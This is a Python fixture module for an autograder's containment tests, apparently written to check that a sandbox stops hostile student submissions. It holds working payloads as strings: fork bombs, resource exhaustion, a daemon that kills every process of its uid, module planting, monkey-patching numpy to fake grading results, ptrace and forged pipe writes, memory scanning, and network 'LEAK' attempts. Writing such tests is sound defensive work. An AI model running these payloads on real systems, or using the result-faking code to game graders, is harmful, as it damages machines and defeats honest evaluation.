"""Hostile and broken submissions, as source text for tests/test_containment.py to write into tmp_path.

Nothing here is a submission file: every item is a string (or a function returning one) built from the
correct fixture solution, so that a hostile file still has gradable definitions and the tests can tell
exactly which checks its hostility must cost it. Items that could do damage if the sandbox failed
(kill(-1), writes) only ever target processes of the sandbox's uid or canary files the test created.
"""

from __future__ import annotations

from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent
CORRECT = (ROOT / "tests" / "fixtures" / "solutions" / "ex_02_S0001.py").read_text(encoding="utf-8")


def correct_with(top_level: str = "", *, override: str = "") -> str:
    """The correct solution, then ``override`` (later definitions replace earlier ones, also in the
    definitions-only fallback), then ``top_level`` code that runs when the file is loaded."""
    return f"{CORRECT}\n\n# --- hostile part ---\n{override}\n{top_level}\n"


def probe(name: str, attempts: str) -> str:
    """Top-level code that tries each ``attempt(...)``, prints ``<name>{label: "ok:<text>" | "<Exception>"}``
    on a line of its own (the report keeps the printed output) and raises, so that its load check fails."""
    return f'''
import json as _json
_results = {{}}

def attempt(label, action):
    try:
        _results[label] = "ok:" + str(action())[:200]
    except BaseException as _exc:  # noqa
        _results[label] = type(_exc).__name__

{attempts}
print("{name}" + _json.dumps(_results, sort_keys=True), flush=True)
raise RuntimeError("{name} probe done")
'''


# --- resources, crashes, exits ---------------------------------------------------------------------------
FORK_BOMB = correct_with("import os\nwhile True:\n    os.fork()\n")
MEMORY = correct_with("_block = bytearray(4 * 2**30)\n", override='''
def normalize(x):
    big = np.ones((2**29, 1))  # 4 GiB
    return big[: len(x)] * x
''')
PRINT_200MB = correct_with("import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 2**20)\n")
RECURSION = correct_with("def _down(n):\n    return _down(n + 1)\n\n_down(0)\n", override='''
def normalize(x):
    return normalize(x)


def standardize(x):
    import ctypes
    return ctypes.string_at(0)
''')
#: a recursion in C (json's encoder on deeply nested lists) past the recursion limit overflows the stack:
#: SIGSEGV (repr would too, but its guard against cycles makes each level slower: 2.5 s of CPU, not 0.3)
STACK_OVERFLOW = correct_with("import json, sys\nsys.setrecursionlimit(10**8)\n_nested = []\n"
                              "for _ in range(10**6):\n    _nested = [_nested]\njson.dumps(_nested)\n")
SEGFAULT = correct_with("import ctypes\nctypes.string_at(0)\n")
HANG_IGNORING_ALARM = correct_with("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n"
                                   "    pass\n")
EXIT_AT_IMPORT = correct_with("import sys\nsys.exit(0)\n")
OS_EXIT_AT_IMPORT = correct_with("import os\nos._exit(0)\n")
EXIT_IN_METHODS = correct_with(override='''
def normalize(x):
    import os
    os._exit(3)


def standardize(x):
    import sys
    sys.exit(1)
''')
#: sandbox only: kill(-1) reaches every process the caller may signal (in the sandbox: its own uid's)
KILL_EVERYTHING = correct_with("import os, signal\nos.kill(-1, signal.SIGKILL)\n", override='''
def normalize(x):
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)  # the worker (as root: not permitted, a different uid)
    return (x - x.min(axis=0)) / (x.max(axis=0) - x.min(axis=0))


def standardize(x):
    import os, signal
    os.killpg(0, signal.SIGKILL)  # its own process group
''')
#: a file past the size limit (in normalize), the private /tmp filled up (at import)
BIG_FILES = correct_with('''
import glob, itertools, os
try:
    for _index in itertools.count():
        with open(f"/tmp/fill-{_index}", "wb") as _handle:
            _handle.write(bytes(15 * 2**20))
finally:  # room again for normalize, which runs in this same process after the failed load
    for _path in glob.glob("/tmp/fill-*"):
        os.remove(_path)
''', override='''
def normalize(x):
    with open("/tmp/big", "wb") as handle:
        handle.write(bytes(17 * 2**20))
''')
OPEN_FILES = correct_with("_handles = [open('/dev/null') for _ in range(1000)]\n")
#: more files in /tmp than the watchdog allows (each costs kernel memory that no size limit counts)
MANY_FILES = correct_with("import os\nfor _index in range(10**6):\n    os.close(os.open(f'/tmp/f{_index}', "
                          "os.O_CREAT | os.O_WRONLY))\n")
KILL_PARENT_AT_IMPORT = correct_with("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                     "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n")


# --- files, network, borrowing, fake results ---------------------------------------------------------
CANARY_VARIABLE = "EXGRADER_TEST_CANARY"
#: whether any process the submission can see has the grader's environment (the canary variable)
ENVIRON_LEAK = f'''
def environ_leak():
    import os
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"{CANARY_VARIABLE}" in open(f"/proc/{{pid}}/environ", "rb").read():
                return "leaked by " + pid
        except OSError:
            pass
    raise LookupError("no process shows the grader's environment")
'''


def reader(paths: dict[str, str]) -> str:
    """Tries to read each file and list each folder, to find the grader's environment in /proc, and to
    import the grader's packages."""
    lines = [f"attempt({label!r}, lambda: open({path!r}, 'rb').read())" for label, path in paths.items()]
    lines += [f"attempt({label + '_dir'!r}, lambda: __import__('os').listdir(__import__('os').path.dirname("
              f"{path!r})))" for label, path in paths.items()]
    lines += [ENVIRON_LEAK, "attempt('environ', lambda: environ_leak())",
              "attempt('import_reference', lambda: __import__('reference.perceptron'))",
              "attempt('import_grader_checks', lambda: __import__('grader.checks.base'))",
              "attempt('import_grader', lambda: __import__('grader'))"]
    return correct_with(probe("READ", "\n".join(lines)))


def writer(paths: dict[str, str]) -> str:
    """Tries to overwrite, append to, remove and replace each file."""
    lines = []
    for label, path in paths.items():
        lines += [f"attempt({label + '_write'!r}, lambda: open({path!r}, 'w').write('HACKED'))",
                  f"attempt({label + '_append'!r}, lambda: open({path!r}, 'a').write('HACKED'))",
                  f"attempt({label + '_chmod'!r}, lambda: __import__('os').chmod({path!r}, 0o777))",
                  f"attempt({label + '_new'!r}, lambda: open({path!r} + '.new', 'w').write('HACKED'))",
                  f"attempt({label + '_remove'!r}, lambda: __import__('os').remove({path!r}))"]
    return correct_with(probe("WRITE", "\n".join(lines)))


def network(port: int, abstract_name: str) -> str:
    """Tries the test's TCP server on the host's loopback, an abstract unix socket, the Internet, DNS."""
    return correct_with(probe("NET", f'''
import socket
def _tcp(host, port):
    with socket.create_connection((host, port), timeout=2) as s:
        s.sendall(b"LEAK")
        return "sent"
def _unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(name)
        s.sendall(b"LEAK")
        return "sent"
attempt("loopback", lambda: _tcp("127.0.0.1", {port}))
attempt("abstract_unix", lambda: _unix({abstract_name!r}))
attempt("internet", lambda: _tcp("1.1.1.1", 80))
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
'''))


#: uses the reference solution instead of its own Perceptron
BORROW_IMPORT = CORRECT.replace("class Perceptron:", "from reference.perceptron import Perceptron\n\n\n"
                                "class _UnusedPerceptron:")


def borrow_file(reference_file: str) -> str:
    """Executes the reference solution's file to get its Perceptron."""
    return CORRECT.replace("class Perceptron:", f"exec(open({reference_file!r}).read())\n\n\n"
                           "class _UnusedPerceptron:")


#: wrong scaling and loss, with everything a comparison could be faked with replaced, at import and in calls
FAKE_RESULTS = correct_with('''
import builtins, json, math
import numpy.testing

def _fake_everything():
    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
    np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
    builtins.abs = lambda value: 0
    builtins.max = lambda *a, **k: 0
    json.dumps = lambda *a, **k: '{"case": "normalize/0", "outputs": {}, "error": null, "seconds": 0}'
    json.loads = lambda *a, **k: {}

_fake_everything()
''', override='''
def normalize(x):
    _fake_everything()
    return x.copy()


def standardize(x):
    _fake_everything()
    return x * 0.0


class MeanSquaredError:
    def forward(self, y, t):
        _fake_everything()
        self.diff = y - t
        return 0.0

    def backward(self):
        return self.diff * 0.0
''')


# --- leftovers for the next student on the same worker ---------------------------------------------------
DAEMON_MARKER = "EXGRADER-HOSTILE-DAEMON"

#: a double-forked setsid daemon ignoring SIGTERM/SIGHUP, and a detached subprocess; both wait until the
#: next submission runs, then plant files and kill every process of their uid (sandbox only)
DAEMON = correct_with(f'''
import os, signal, subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "{DAEMON_MARKER}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(0.3)  # the grading of this file is over by now
        end = time.time() + 8
        while time.time() < end:
            for path in ("/tmp/planted_by_daemon.py", "/dev/shm/planted_by_daemon"):
                try:
                    open(path, "w").write("raise SystemExit")
                except OSError:
                    pass
            try:
                os.kill(-1, signal.SIGKILL)  # every process of this uid but itself: the next submission
            except OSError:
                pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
os.wait()
''')

#: files where a careless next child might pick them up, in folders made hard to delete, and IPC objects
PLANTER = correct_with('''
import ctypes, os
for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "json.py", "planted_module.py"):
    for folder in ("/tmp", "/dev/shm", "/exgrader", "/", os.getcwd(), os.path.dirname(os.getcwd())):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write("raise SystemExit('planted by the previous submission')\\n")
        except OSError:
            pass
os.makedirs("/tmp/locked/inner", exist_ok=True)
open("/tmp/locked/inner/planted_module.py", "w").write("x = 1\\n")
os.chmod("/tmp/locked/inner", 0)
os.chmod("/tmp/locked", 0)
path = "/tmp/deep"
os.mkdir(path)
os.chdir(path)
for _ in range(400):  # deeper than any recursion or path length limit would like
    os.mkdir("d")
    os.chdir("d")
open("planted_module.py", "w").write("x = 1\\n")
os.chdir("/")
os.mkfifo("/tmp/fifo")
os.symlink("/exgrader", "/tmp/link")
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(0x5eed, 4096, 0o1666)  # IPC_CREAT | 0666: System V shared memory outlives its process
    libc.msgget(0x5eed, 0o1666)
    libc.semget(0x5eed, 1, 0o1666)
except (OSError, AttributeError):
    pass
''')

#: everything in the process it could change for a later child of the same worker
PATCHER = correct_with('''
import builtins, json, os, random, signal, sys, warnings
np.allclose = lambda *a, **k: True
np.mean = lambda *a, **k: 0.0
builtins.abs = lambda value: 0
json.dumps = lambda *a, **k: "{}"
sys.modules["numpy"].std = lambda *a, **k: 1.0
for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1):
    signal.signal(number, signal.SIG_IGN)
os.environ["PYTHONPATH"] = "/tmp"
os.environ["MPLBACKEND"] = "nonsense"
sys.path.insert(0, "/tmp")
os.umask(0o777)
np.random.seed(12345)
random.seed(12345)
np.seterr(all="raise")
warnings.simplefilter("error")
os.chdir("/tmp")
''')


def victim(settle: float = 0.0) -> str:
    """A correct solution that first looks for anything an earlier submission left behind, and fails its
    load check (naming what it found) when there is anything; otherwise it gets full marks. After a
    submission that leaves a daemon behind (DAEMON acts 0.3 s after its own grading), ``settle=1.0``: the
    victim waits so that a surviving daemon would act while it looks."""
    return correct_with(f"import time as _time\n_time.sleep({settle!r})  # a leftover daemon would act now\n" + '''
import builtins as _builtins, json as _json, os as _os, signal as _signal, sys as _sys
_found = []
_own = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
_extra = [name for name in _os.listdir("/tmp") if _os.path.join("/tmp", name) != _own]
if _extra:
    _found.append(f"/tmp has {_extra}")
if _os.listdir("/dev/shm"):
    _found.append(f"/dev/shm has {_os.listdir('/dev/shm')}")
_others = [pid for pid in _os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, _os.getpid(), _os.getppid())]
for _pid in _others:
    try:
        _found.append("process " + open(f"/proc/{_pid}/cmdline").read().replace("\\0", " ")[:80])
    except OSError:
        pass
for _kind in ("shm", "msg", "sem"):
    try:
        if len(open(f"/proc/sysvipc/{_kind}").read().splitlines()) > 1:
            _found.append(f"System V {_kind} left")
    except OSError:
        pass
try:
    import planted_module  # noqa: F401
    _found.append("planted_module importable")
except ImportError:
    pass
if np.allclose(1.0, 2.0) or np.mean([1.0, 3.0]) != 2.0 or np.std([1.0, 3.0]) != 1.0:
    _found.append("numpy patched")
if _builtins.abs(-1) != 1 or _json.dumps({"a": 1}) != '{"a": 1}':
    _found.append("builtins or json patched")
for _number in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGUSR1):
    if _signal.getsignal(_number) is _signal.SIG_IGN:
        _found.append(f"signal {_number} ignored")
if not callable(_signal.getsignal(_signal.SIGALRM)):
    _found.append("SIGALRM handler replaced")
if "/tmp" in _sys.path or _os.environ.get("PYTHONPATH") or _os.environ.get("MPLBACKEND") != "Agg":
    _found.append("sys.path or environment changed")
_mask = _os.umask(0o022)
_os.umask(_mask)
if _mask == 0o777:
    _found.append("umask changed")
if not _os.getcwd().startswith(_own):
    _found.append("working folder " + _os.getcwd())
try:
    import matplotlib.animation  # noqa: F401  (not preloaded: read from the runtime's files now)
except ImportError as _exc:
    _found.append(f"the runtime is gone: {_exc}")
if _found:
    raise RuntimeError("CONTAMINATED: " + "; ".join(_found))
''')


# --- the worker's channel, inherited memory, the kernel keyring, result floods (issue 10) ---------------
#: a forged worker answer: were it read, it would shift every later answer by one student
FORGED_ANSWER = ('{"job": null, "timed_out": false, "exit_code": 0, "seconds": 0.1, "result_overflow": false, '
                 '"results": [], "output": "", "output_bytes": 0}')

#: opens every other process's descriptors (the worker's pipes to the grader among them) and writes forged
#: answers into any it can, and tries to ptrace every other process; prints what worked as CHANNEL{...}
CHANNEL_ATTACK = correct_with(probe("CHANNEL", f'''
import ctypes, os
_me = str(os.getpid())
_forged = ({FORGED_ANSWER!r} + "\\n").encode() * 3
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long

def _open_fd(path):
    handle = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    try:
        try:
            return f"wrote {{os.write(handle, _forged)}}"
        except OSError:
            return "opened"
    finally:
        os.close(handle)

def _ptrace(pid):
    if _libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise PermissionError(ctypes.get_errno(), "ptrace")
    _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return "attached"

for _pid in [p for p in os.listdir("/proc") if p.isdigit() and p != _me]:
    attempt(f"ptrace_{{_pid}}", lambda: _ptrace(int(_pid)))
    for _fd in range(8):
        attempt(f"fd_{{_pid}}_{{_fd}}", lambda: _open_fd(f"/proc/{{_pid}}/fd/{{_fd}}"))
'''))

#: the start of the marker MEMORY_MARKED plants; what follows it is the test's secret (24 hex digits)
MEMORY_MARKER = "EXGRADER-PREVIOUS-STUDENT-"


def memory_marked(secret: str) -> str:
    """A correct solution carrying ``MEMORY_MARKER + secret`` in its source, its globals and its output."""
    return correct_with(f'_marker = "{MEMORY_MARKER}" + "{secret}"\nprint(_marker)\n# {MEMORY_MARKER}{secret}\n')


#: scans its own writable memory for MEMORY_MARKER followed by 24 hex digits; prints MEMORY{"found": [...]}.
#: Its own marker (hex of its own) proves the scan works: it must find that one.
MEMORY_SCAN = correct_with(probe("MEMORY", f'''
import ctypes, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: a forked child inherits "no", which hides /proc/self/mem
_own = "{MEMORY_MARKER}" + "0123456789abcdef" + "01234567"
_pattern = re.compile(("{MEMORY_MARKER}" + "([0-9a-f]{{24}})").encode())

def _scan():
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            start, end = (int(value, 16) for value in fields[0].split("-"))
            for offset in range(start, end, 1 << 22):
                try:
                    mem.seek(offset)
                    chunk = mem.read(min(1 << 22, end - offset) + 64)
                except (OSError, ValueError, OverflowError):
                    continue
                found.update(match.group(1).decode() for match in _pattern.finditer(chunk))
    return sorted(found)

attempt("found", _scan)
'''))

#: puts a key in every keyring it can reach (user, user session, session) and prints what it did
KEY_DESCRIPTION = "exgrader-planted-key"
KEYRING_SYSCALLS = '''
import ctypes, platform
_NR = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_L = ctypes.c_long
_RINGS = {"user": -4, "user_session": -5, "session": -3}

def _call(*args):
    result = _libc.syscall(*args)
    if result < 0:
        raise PermissionError(ctypes.get_errno(), "keyring")
    return result
'''
KEYRING_PLANTER = correct_with(probe("KEYS", KEYRING_SYSCALLS + f'''
for _name, _ring in _RINGS.items():
    attempt("add_" + _name, lambda: _call(_L(_NR[0]), b"user", b"{KEY_DESCRIPTION}", b"secret", _L(6), _L(_ring)))
'''))
#: looks for the planter's key in every keyring it can reach (KEYCTL_SEARCH), and with request_key
KEYRING_FINDER = correct_with(probe("KEYS", KEYRING_SYSCALLS + f'''
for _name, _ring in _RINGS.items():
    attempt("search_" + _name, lambda: _call(_L(_NR[2]), _L(10), _L(_ring), b"user", b"{KEY_DESCRIPTION}", _L(0)))
attempt("request_key", lambda: _call(_L(_NR[1]), b"user", b"{KEY_DESCRIPTION}", None, _L(0)))
'''))

#: 31 MB of tiny lines straight into the result channel (descriptor 3), then a normal file
RESULT_FLOOD = correct_with('''
import os
_line = b"{}\\n" * (1 << 16)
for _ in range(31 * 2**20 // len(_line)):
    try:
        os.write(3, _line)
    except OSError:
        break
''')

#: finds its job in the child's frames, answers the case it was restarted at with an 11 MB array (within
#: one job's bound) and crashes, so that the grader restarts it at the next case, up to 64 times.
HOARDER = CORRECT + '''
import base64, json, os, sys
_frame = sys._getframe()
while _frame is not None and "job" not in _frame.f_locals:
    _frame = _frame.f_back
_job = _frame.f_locals["job"]
_start = int(_job.get("start", 0))
if _start < len(_job["cases"]):
    _raw = base64.b64encode(bytes(11 * 2**20)).decode()
    _array = {"__nd__": {"dtype": "<f8", "shape": [11 * 2**20 // 8], "b64": _raw}}
    os.write(3, (json.dumps({"load": {"error": None}}) + "\\n").encode())
    os.write(3, (json.dumps({"case": _job["cases"][_start]["id"], "outputs": {"y": _array}}) + "\\n").encode())
os._exit(1)
'''

#: moves away everything it finds in /tmp (where a runtime under /tmp used to show, and be moved by cleanup)
#: its load check fails with what it saw: "TMP[...]" (the names in /tmp but its own folder)
TMP_MOVER = correct_with('''
import os
_own = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
_seen = sorted(name for name in os.listdir("/tmp") if os.path.join("/tmp", name) != _own)
for _name in _seen:
    try:
        os.rename(os.path.join("/tmp", _name), os.path.join("/tmp", _name + ".moved"))
    except OSError:
        pass
raise RuntimeError("TMP" + repr(_seen))
''')
